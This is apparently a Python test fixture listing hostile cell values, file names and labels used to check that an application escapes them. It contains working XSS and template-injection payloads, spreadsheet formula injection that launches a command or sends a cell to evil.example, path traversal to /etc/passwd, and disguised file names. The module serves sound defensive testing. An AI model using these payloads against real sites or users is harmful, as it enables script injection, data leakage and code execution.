"""Cells, file names, labels and column names of somebody who wants more than to be counted.

Those that run would set `data-ran` on the page's root element; the browser's test looks for it there.
"""

RUN = "document.documentElement.dataset.ran=1"

MARKUP = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"'\"><script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<math><mtext></table><mglyph><style><img src=x onerror={RUN}>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'>",
    f'<img src="x" onerror="{RUN}">',
    f"<img src=`x`onerror={RUN}>",
    f"<img\tsrc=x\tonerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<marquee onstart={RUN}>x</marquee>",
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<object data="data:text/html,<script>parent.{RUN}</script>"></object>',
    f'<embed src="javascript:{RUN}">',
    f'<a href="javascript:{RUN}" autofocus onfocus={RUN}>x</a>',
    f'<a href="java&#x09;script:{RUN}">x</a>',
    f'<form action="javascript:{RUN}"><button autofocus onfocus={RUN}>x</button></form>',
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="data:text/css,*{display:none}">',
    "<style>*{background:url(javascript:1)}</style>",
    f"<template><script>{RUN}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus x='",
    "<!--",
    "<plaintext>",
    "<textarea>",
)
TEMPLATES = ("{{ 7 * 7 }}", "{% raw %}", "${7*7}", "$column", "$$PARAMETER", "%s%n%(x)s", "{0.__class__}")
MARKDOWN = (
    f"[x](javascript:{RUN})",
    f'![x](x"onerror="{RUN})',
    f"<javascript:{RUN}>",
    "[x]: https://evil.example/",
    "| a | b |",
    "`code` **bold** _it_ ~~no~~",
    "https://evil.example/?from=here",
    "www.evil.example",
    "# heading",
    "line\n\n## another | cell",
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "x;=1+1",
)
TYPESET = (r"$\frac{1}{0$", "$x^2$", r"\includegraphics{x}", "a$b", "100 % & more_or_less^2 #1 ~ {x}")
PLACES = (
    "../../../etc/passwd",
    "C:\\Windows\\system32",
    "CON",
    "-rf",
    "--output=harm",
    ".",
    "a\u202egnp.exe",
    "\u0000x",
)

CELLS = (*MARKUP, *TEMPLATES, *MARKDOWN, *FORMULAS, *TYPESET, *PLACES)


def file_names() -> list[str]:
    """The cells that a file may be called."""
    fit = [cell for cell in CELLS if "/" not in cell and "\0" not in cell and cell.strip(". ")]
    return [name for name in fit if len(name.encode()) < 200]


def harmless(count: int) -> list[str]:
    """As many names that want nothing, all different."""
    return [f"plain name {number:03d}" for number in range(count)]
